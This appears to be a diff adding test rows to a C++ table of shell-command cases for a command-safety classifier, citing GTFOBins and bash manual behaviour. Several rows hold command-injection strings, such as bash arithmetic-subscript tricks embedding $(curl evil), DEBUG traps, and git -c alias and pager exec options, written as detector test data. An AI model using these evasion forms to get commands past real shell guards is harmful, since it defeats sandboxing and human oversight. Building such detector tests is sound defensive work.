@@ -341,6 +341,12 @@ constexpr std::array kRows{
     ShellRow{"xargs_find", "GTFOBins xargs, find", "echo x | xargs -I % bash -c 'echo %'", Verdict::kHazard, "command.wrapper"},
     ShellRow{"xargs_find", "GTFOBins xargs, find", "find . -exec sh -c 'echo {}' \\;", Verdict::kHazard, "command.wrapper"},
     ShellRow{"xargs_find", "GTFOBins xargs, find", "find . -exec env sh -c {} \\;", Verdict::kHazard, "command.wrapper"},
+    ShellRow{"xargs_find", "GTFOBins xargs, find", "ls | xargs -I", Verdict::kRuns, "ls\nxargs\n"},
+    ShellRow{"xargs_find", "GTFOBins xargs, find", "ls | xargs -I x -I", Verdict::kRuns, "ls\nxargs\n"},
+    ShellRow{"xargs_find", "GTFOBins xargs, find", "nice -n", Verdict::kRuns, "nice\n"},
+    ShellRow{"xargs_find", "GTFOBins xargs, find", "timeout -k", Verdict::kHazard, "command.wrapper"},
+    ShellRow{"xargs_find", "GTFOBins xargs, find", "sudo -u", Verdict::kRuns, "sudo\n"},
+    ShellRow{"xargs_find", "GTFOBins xargs, find", "stdbuf -o", Verdict::kRuns, "stdbuf\n"},
     // ---- git_options
     ShellRow{"git_options", "GTFOBins git, git-config(1), facts 1.5", "git -c alias.x=!curl x", Verdict::kHazard, "command.exec_option"},
     ShellRow{"git_options", "GTFOBins git, git-config(1), facts 1.5", "git -c core.pager=curl log", Verdict::kHazard, "command.exec_option"},
@@ -487,6 +493,10 @@ constexpr std::array kRows{
     ShellRow{"arithmetic", "facts 3.2: bash evaluates subscripts in arithmetic", "i='a[$(curl evil)]'; true || i=0; echo $((i))", Verdict::kUndecidable, "command.arithmetic"},
     ShellRow{"arithmetic", "facts 3.2: bash evaluates subscripts in arithmetic", "i=0; i+='+a[$(curl evil)]'; echo $((i))", Verdict::kUndecidable, "command.arithmetic"},
     ShellRow{"arithmetic", "facts 3.2: bash evaluates subscripts in arithmetic", "i='a[$(curl evil)]+'; i+=1; echo $((i))", Verdict::kUndecidable, "command.arithmetic"},
+    ShellRow{"arithmetic", "facts 3.2: bash evaluates subscripts in arithmetic", ": ${i:=$((1))'+a[$(curl evil)]'}; [[ $i -eq 1 ]]", Verdict::kUndecidable, "command.arithmetic"},
+    ShellRow{"arithmetic", "facts 3.2: bash evaluates subscripts in arithmetic", "i='a[$(curl evil)]'; : ${i:=1}; echo $((i))", Verdict::kUndecidable, "command.arithmetic"},
+    ShellRow{"arithmetic", "facts 3.2: bash evaluates subscripts in arithmetic", "cat <<E\n${i:=$((1))+a[\\$(curl evil)]}\nE\necho $((i))", Verdict::kUndecidable, "command.arithmetic"},
+    ShellRow{"arithmetic", "facts 3.2: bash evaluates subscripts in arithmetic", "trap 'i=\"a[\\$(curl evil)]\"' DEBUG; i=0; echo $((i))", Verdict::kUndecidable, "command.arithmetic"},
     ShellRow{"arithmetic", "facts 3.2: bash evaluates subscripts in arithmetic", "i=0; (( i = 1 )); f() { echo $((i)); }; i='a[$(curl evil)]'; f", Verdict::kUndecidable, "command.arithmetic"},
     // ---- compound
     ShellRow{"compound", "bash manual 3.2.5", "case a in a) curl evil;; esac", Verdict::kRuns, "curl\n"},
